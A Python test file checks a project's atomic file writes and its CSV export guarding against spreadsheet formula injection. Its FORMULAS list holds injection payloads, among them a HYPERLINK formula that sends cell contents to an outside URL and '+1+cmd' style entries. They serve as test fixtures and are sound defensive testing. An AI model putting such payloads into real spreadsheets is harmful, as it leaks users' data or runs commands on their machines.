"""A file is whole, or as it was."""

from __future__ import annotations

import ast
import csv
import io
import os
import resource
import threading
from pathlib import Path

import pytest

from gym.files import from_csv_cell, to_csv, write_whole

ROOT = Path(__file__).parents[1]


def test_a_file_is_written_and_nothing_else(tmp_path: Path) -> None:
    write_whole(tmp_path / "a.json", b"one")
    write_whole(tmp_path / "a.json", b"two")
    assert (tmp_path / "a.json").read_bytes() == b"two"
    assert os.listdir(tmp_path) == ["a.json"]


def test_others_may_read_what_they_could_before(tmp_path: Path) -> None:
    write_whole(tmp_path / "a.json", b"one")
    (tmp_path / "b.json").write_bytes(b"one")
    assert (tmp_path / "a.json").stat().st_mode == (tmp_path / "b.json").stat().st_mode


def test_a_failed_write_leaves_the_old_file_alone(tmp_path: Path) -> None:
    write_whole(tmp_path / "a.json", b"old")
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, limits[1]))  # as if the disk were full
    try:
        with pytest.raises(OSError, match="File too large"):
            write_whole(tmp_path / "a.json", b"new" * 1000)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert (tmp_path / "a.json").read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["a.json"]


def test_a_folder_in_the_place_stays(tmp_path: Path) -> None:
    (tmp_path / "a.json").mkdir()
    with pytest.raises(OSError, match="directory"):
        write_whole(tmp_path / "a.json", b"new")
    assert os.listdir(tmp_path) == ["a.json"]


def test_a_link_stays_one(tmp_path: Path) -> None:
    (tmp_path / "far").mkdir()
    (tmp_path / "a.json").symlink_to(tmp_path / "far" / "b.json")
    write_whole(tmp_path / "a.json", b"new")
    assert (tmp_path / "a.json").is_symlink()
    assert (tmp_path / "far" / "b.json").read_bytes() == b"new"


def test_a_pipe_is_written_to(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    got = []
    reader = threading.Thread(target=lambda: got.append((tmp_path / "pipe").read_bytes()))
    reader.start()
    write_whole(tmp_path / "pipe", b"new")
    reader.join(10)
    assert got == [b"new"]


# Tables -----------------------------------------------------------------------------------------

#: What a spreadsheet would run, or take for the start of a formula.
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"squat")',
    "=1+1",
    "+1+cmd",
    "-1+cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    "-",
)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_table_holds_no_formula_and_reads_back(formula: str) -> None:
    header, row = cells(to_csv(["id", formula], [[formula, f"squat {formula}"]]))
    for cell in (header[1], row[0]):
        assert cell == f"'{formula}"
        assert from_csv_cell(cell) == formula
    assert row[1] == f"squat {formula}"


def test_a_return_in_a_cell_begins_no_line_of_its_own() -> None:
    (_, row) = cells(to_csv(["id"], [["squat\r=1+1"]]))
    assert row == ["squat\n=1+1"]
    (_, row) = cells(to_csv(["id"], [["\r=1+1"]]))
    assert row == ["'\n=1+1"]


@pytest.mark.parametrize("number", [-1, -0.25, 0, 1e-7, "-1", "+2.5", "-1e3"])
def test_numbers_in_a_table_stay_numbers(number: object) -> None:
    (_, row) = cells(to_csv(["bias"], [[number]]))
    assert row == [str(number)]
    assert from_csv_cell(row[0]) == row[0]


@pytest.mark.parametrize("text", ["'quoted'", "'tis", "a=b", "", "squat, deep", 'a "b"'])
def test_other_text_is_left_alone(text: str) -> None:
    (_, row) = cells(to_csv(["id"], [[text]]))
    assert row[0] == from_csv_cell(row[0]) == text


def test_every_table_is_written_by_the_one_safe_function() -> None:
    """No other code knows how to write a table, so none can forget."""
    writers = {
        f"{path.relative_to(ROOT).as_posix()}: {name}"
        for path in (ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("gym/**/*.py"))
        for node in ast.walk(ast.parse(path.read_bytes()))
        if (name := called(node)) in {"csv.writer", "csv.DictWriter", "savetxt", "to_csv method"}
    }
    assert writers == {"gym/files.py: csv.writer"}


def called(node: ast.AST) -> str:
    """Return what an expression names, as far as tables go."""
    if isinstance(node, ast.ImportFrom) and node.module == "csv":
        return "csv.writer"
    if not isinstance(node, ast.Attribute):
        return ""
    owner = node.value.id if isinstance(node.value, ast.Name) else ""
    if owner == "csv":
        return f"csv.{node.attr}"
    return "to_csv method" if node.attr in ("to_csv", "to_excel") else node.attr
